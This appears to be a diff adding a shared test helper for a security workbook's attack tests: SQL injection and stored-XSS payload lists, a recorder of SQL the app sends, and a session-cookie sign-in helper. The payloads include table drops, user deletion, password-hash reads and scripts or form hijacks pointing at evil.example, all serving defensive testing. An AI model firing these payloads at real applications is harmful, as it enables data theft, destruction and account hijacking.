@@ -1,0 +1,117 @@
+"""What the chapter 08 attack tests share: payload corpora, a recorder of the SQL the app
+sends, and a cookie sign-in for the HTML pages."""
+
+from collections.abc import Iterator
+from contextlib import contextmanager
+from typing import Any
+
+from sqlalchemy import event
+
+from workbook.app.api.security import SESSION_COOKIE
+from workbook.live import DEMO_PASSWORD, LiveApp
+
+# Classic and less classic SQL injection payloads: quote breaking, comments, stacked
+# statements, UNION reads, wildcard abuse, the bind-marker styles of several drivers,
+# look-alike quotes and encodings. None longer than 100 characters (the longest text some
+# inputs accept), none a substring of SQL the app writes itself.
+SQL_INJECTION = [
+    "' OR '1'='1",
+    "' OR 1=1 --",
+    '" OR ""="',
+    "admin'--",
+    "') OR ('a'='a",
+    "'; DROP TABLE agents; --",
+    "'; UPDATE agents SET name = 'pwned'; --",
+    "'; DELETE FROM users; --",
+    "x' UNION SELECT id, email, hashed_password, 1, 1, 1 FROM users --",
+    "' || (SELECT email FROM users LIMIT 1) || '",
+    "%' OR name LIKE '%",
+    "100%_sure",
+    "1; SELECT sqlite_version()",
+    "'; SELECT pg_sleep(0); --",
+    "\\'; SELECT 1; --",
+    "%s OR 1=1",
+    "$1 OR 1=1",
+    ":name OR 1=1",
+    "\u2018 OR \u20181\u2019=\u20191",
+    "%27%20OR%201%3D1",
+    "' OR 1=1 /*",
+    "1' ORDER BY 99 --",
+    "\x00' OR 1=1 --",
+]
+
+# Stored-XSS payloads: script elements, event handlers on harmless-looking tags, URLs with
+# script schemes (also obfuscated), SVG and MathML, CSS, base/meta/form hijacks, markup
+# that only re-forms after parsing (mutation XSS), and breaking out of the surrounding
+# element or attribute.
+XSS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x oNeRrOr=alert(1)//",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    '<a href="javascript:alert(1)">click</a>',
+    '<a href="JaVaScRiPt:alert(1)">click</a>',
+    '<a href="jav&#x09;ascript:alert(1)">click</a>',
+    '<a href="&#106;avascript:alert(1)">click</a>',
+    '<a href=" javascript:alert(1)">click</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
+    '<a href="vbscript:msgbox(1)">click</a>',
+    '<b onmouseover="alert(1)">hover</b>',
+    '<p style="background:url(javascript:alert(1))">styled</p>',
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<base href=https://evil.example/>",
+    "<form action=https://evil.example/><input name=q><button>go</button></form>",
+    "<button formaction=javascript:alert(1)>go</button>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<input autofocus onfocus=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<!--<img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "</div></li></ul><script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<<script>script>alert(1)<</script>/script>",
+    "<img src=x onerror=&#97;lert(1)>",
+    "<a href=\"https://example.com\" onclick=\"alert(1)\">ok</a>",
+]
+
+
+@contextmanager
+def statements_sent(live: LiveApp) -> Iterator[list[str]]:
+    """Record the SQL text of every statement the app's engine sends while the block runs
+    (the text only: bound values travel beside it, in `parameters`)."""
+    sent: list[str] = []
+
+    def record(conn: Any, cursor: Any, statement: str, parameters: Any, context: Any, executemany: bool) -> None:
+        sent.append(statement)
+
+    event.listen(live.engine.sync_engine, "before_cursor_execute", record)
+    try:
+        yield sent
+    finally:
+        event.remove(live.engine.sync_engine, "before_cursor_execute", record)
+
+
+async def session_cookie(live: LiveApp, user: dict[str, Any]) -> str:
+    """Sign ``user`` (made by live.create_user with the demo password) in through the
+    pages' form; the value of the session cookie it sets."""
+    email = user["email"]
+    response = await live.client.post("/web/session", data={"username": email, "password": DEMO_PASSWORD})
+    assert response.status_code == 303, f"POST /web/session as {email}: expected 303, got {response.status_code} {response.text}"
+    cookie = response.cookies.get(SESSION_COOKIE)
+    assert cookie, f"POST /web/session set no {SESSION_COOKIE} cookie: {response.headers}"
+    return cookie
